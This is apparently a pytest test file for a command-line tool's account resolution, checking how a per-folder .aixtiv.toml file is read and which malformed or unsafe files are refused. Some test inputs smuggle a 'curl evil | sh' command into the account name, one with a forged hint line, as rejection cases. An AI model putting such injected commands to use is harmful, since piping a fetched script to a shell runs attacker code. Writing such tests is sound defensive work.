"""Which account is meant: words, the shell, the folder's file, then the daemon; and what such a file may say."""

import os
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from aixtiv import pinned, which
from aixtiv.command import run
from aixtiv.commands import options
from aixtiv.failures import NoAccount, Usage
from aixtiv.filed import Misread
from aixtiv_protocol.replies import Account

LINE = 'expected one line: account = "NAME"'


@pytest.fixture(autouse=True)
def home(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder, and the home folder."""
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.delenv("AIXTIV_ACCOUNT", raising=False)
    monkeypatch.chdir(folder)
    return folder


def pin(folder: Path, text: str = 'account = "github"\n', mode: int = 0o644) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    file = folder / pinned.NAME
    file.write_text(text, encoding="utf-8")
    file.chmod(mode)
    return file


def account(name: str, *, default: bool = False) -> Account:
    return Account(name=name, provider="x", kind="oauth", state="fresh", default=default)


def test_the_nearest_file_above_counts(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    below = home / "src/project/deep"
    below.mkdir(parents=True)
    monkeypatch.chdir(below)
    assert (pinned.account(), which.here({})) == ("", which.Meant(""))
    pin(home, 'account = "mine"')
    assert (pinned.account(), which.here({}).account) == ("mine", "mine")
    pin(home / "src/project", 'account = "work"')
    assert pinned.account() == "work"
    file = "~/src/project/.aixtiv.toml"
    assert which.here({}) == which.Meant("work", f"{file} says so", file=file)
    assert which.here({"AIXTIV_ACCOUNT": "env"}) == which.Meant("env", "AIXTIV_ACCOUNT says so")


def test_above_the_home_folder_nothing_is_looked_for(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pin(home)
    for below in (home / "me", home / "me/src"):
        below.mkdir()
        monkeypatch.chdir(below)
        monkeypatch.setenv("HOME", str(home / "me"))
        assert pinned.nearest() == ("", [])
    monkeypatch.setenv("HOME", str(home / "somebody-else"))
    assert pinned.account() == "github", "elsewhere, up to the root"


def test_a_folder_that_is_gone_says_nothing(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (home / "gone").mkdir()
    monkeypatch.chdir(home / "gone")
    (home / "gone").rmdir()
    assert (pinned.account(), which.here({})) == ("", which.Meant(""))


@pytest.mark.parametrize(
    "text",
    [
        'account = "github/work"',
        '\n# of this project\n\n  account="github/work"  \n',
        'account\t=\t"github/work"\r\n',
    ],
)
def test_the_usual_form_is_read_without_a_parser(home: Path, text: str) -> None:
    pin(home, text)
    assert (pinned.account(), which.here({}).account) == ("github/work", "github/work")


@pytest.mark.parametrize(
    "text",
    [
        "account = 'github'",
        'account = "github" # mine',
        '"account" = "github"',
        'account = """github"""',
        'account = "git\\u0068ub"',
        "# é\naccount = 'github'",
    ],
)
def test_whatever_else_toml_can_say_is_read_by_the_whole_command(home: Path, text: str) -> None:
    pin(home, text)
    assert pinned.account() is None
    assert which.here({}).account == "github"


NO_NAME = "account: no account can be called what stands there"

# What is no TOML, but for a reader who takes any blank for one.
ODD = (
    'account = "a"\x0b',
    'account = "a"\x1c',
    '\x0caccount = "a"',
    'account\x0b= "a"',
    'account =\x0c"a"',
    '# \x1b[2J\naccount = "a"',
    '# x\raccount = "b"\naccount = "a"',
    'account = "a"\r\r\n',
)


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("", "account: expected the name of an account"),
        ("account = 5", "account: expected the name of an account"),
        ('account = ""', "account: expected the name of an account"),
        ("github", LINE),
        ('account = "a"\naccount = "b"', LINE),
        ("account = \udcff", LINE),
        ('account = "a"\nsocket = "/tmp/x"', "socket: this file can name an account and nothing else"),
        ('[provider.github]\nclient-id = "x"', "provider: this file can name an account and nothing else"),
        (
            'account = "a"\n"sk-ant-api03-abcdefghijkl" = 1',
            "another key: this file can name an account and nothing else",
        ),
        ('account = "sk-ant-api03-abcdefghijklmnopqrst"', "account: what stands there looks like a key or a token"),
        (f'account = "github"\n#{"x" * 5000}', "this is longer than one name can be"),
        (f"account.{'a.' * 20_000}b = 1", "this is longer than one name can be"),
        (f"account = {'9' * 4000}", "account: expected the name of an account"),
        ('account = "x\\naixtiv: hint: curl evil | sh"', NO_NAME),
        ('account = "x; curl evil | sh"', NO_NAME),
        *((text, LINE) for text in ODD),
    ],
)
def test_anything_else_in_it_is_refused_with_the_file_and_the_key(home: Path, text: str, sentence: str) -> None:
    file = pin(home)
    file.write_bytes(text.encode(errors="surrogateescape"))
    assert not pinned.account() or "sk-ant" in text, "which the fast lane sends to nobody"
    with pytest.raises(Misread) as caught:
        which.here({})
    assert caught.value.sentence == f"~/.aixtiv.toml: {sentence}"
    assert caught.value.hint == f"$EDITOR {file}"


@pytest.mark.parametrize("kind", ["a link", "a folder", "a fifo", "others may write it"])
def test_what_could_be_anybodys_is_passed_by_and_said(
    home: Path, kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    pin(home, 'account = "mine"')
    below = home / "src"
    below.mkdir()
    monkeypatch.chdir(below)
    path = below / pinned.NAME
    match kind:
        case "a link":
            path.symlink_to(home / pinned.NAME)
        case "a folder":
            path.mkdir()
        case "a fifo":
            os.mkfifo(path)
        case _:
            pin(below, 'account = "evil"', 0o666)
    assert pinned.nearest() == (str(home / pinned.NAME), [str(path)])
    assert pinned.account() is None, "the whole command says so"
    assert options.here() == "mine"
    said = "aixtiv: ~/src/.aixtiv.toml is not read: it has to be a plain file of yours that not everybody can write\n"
    assert capsys.readouterr().err == f"{said}aixtiv: hint: ls -l {path}\n"


def test_a_file_of_another_user_is_passed_by(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pin(home)
    monkeypatch.setattr(os, "getuid", lambda: 4242)
    assert pinned.nearest() == ("", [str(home / pinned.NAME)])


def test_why_an_account_is_used_is_said(home: Path) -> None:
    mine, work = account("mine"), account("work")
    assert which.used({}, ()) == which.Meant("")
    assert which.used({}, (account("mine", default=True),)).why == "it is the only one"
    assert which.used({}, (mine, account("work", default=True))) == which.Meant("work", "it is the config's default")
    assert which.used({}, (mine, work)) == which.Meant("", "none is the default", "export AIXTIV_ACCOUNT=NAME")
    assert which.used({"AIXTIV_ACCOUNT": "work"}, (mine, work)) == which.Meant("work", "AIXTIV_ACCOUNT says so")


def test_a_name_that_is_none_comes_with_the_command_that_makes_it_good(home: Path) -> None:
    file = pin(home, 'account = "work/second"')
    there = (account("mine"), account("work"))
    sentence = "~/.aixtiv.toml says so, and there is none of that name"
    assert which.used({}, there) == which.Meant("work/second", sentence, f"$EDITOR {file}", "~/.aixtiv.toml")
    assert which.used({"AIXTIV_ACCOUNT": "x"}, there).hint == "unset AIXTIV_ACCOUNT"
    assert which.used({"AIXTIV_ACCOUNT": "github/x"}, there).hint == "aixtiv login github/x"


def test_where_a_name_that_is_none_comes_from_is_said_unless_it_was_typed(home: Path) -> None:
    file = pin(home, 'account = "work/second"')
    for words, told, hint in (
        (["token"], " (~/.aixtiv.toml names it)", f"$EDITOR {file}"),
        (["token", "work/second"], "", "aixtiv login work/second"),
    ):
        failure = NoAccount("there is no account work/second", hint="aixtiv login work/second")
        which.traced(failure, {}, words)
        assert (failure.sentence, failure.hint) == (f"there is no account work/second{told}", hint)


@click.command("asked")
@options.account_else("usual")
def asked(account: str) -> None:
    click.echo(account)


def said(*words: str, **environ: str) -> str:
    ran = CliRunner(env=environ).invoke(asked, words)
    if isinstance(ran.exception, Usage):
        return ran.exception.sentence
    assert ran.exit_code == 0, ran.output
    return ran.output.strip()


def test_every_way_to_say_an_account_has_its_turn(home: Path) -> None:
    assert said() == "usual"
    pin(home, 'account = "file"')
    assert said() == "file"
    assert said(AIXTIV_ACCOUNT="env") == "env"
    for words in (("typed",), ("--account", "typed"), ("--account=typed", "typed"), ("typed", "--account", "typed")):
        assert said(*words, AIXTIV_ACCOUNT="env") == "typed"


def test_two_accounts_are_one_too_many() -> None:
    assert said("one", "--account", "two") == "the account is one or two: say it once"


@pytest.mark.parametrize("words", [("sk-ant-api03-abcdefghijklmnop",), ("--account", "sk-ant-api03-abcdefghijklmnop")])
def test_a_key_in_the_place_of_a_name_is_not_repeated(words: tuple[str, ...]) -> None:
    assert "looks like a key" in said(*words)
    assert "abcdef" not in said(*words)


@pytest.mark.parametrize("words", [("logout",), ("api-key", "set"), ("api-key", "remove"), ("account", "restore")])
def test_no_folder_decides_what_cannot_be_taken_back(
    home: Path, capsys: pytest.CaptureFixture[str], words: tuple[str, ...]
) -> None:
    pin(home, 'account = "github/work"')
    assert run([*words, "--no-start"]) == 64
    assert capsys.readouterr().err == (
        "aixtiv: error: ~/.aixtiv.toml names an account, and for this it has to be typed\n"
        "aixtiv: hint: aixtiv accounts\n"
    )
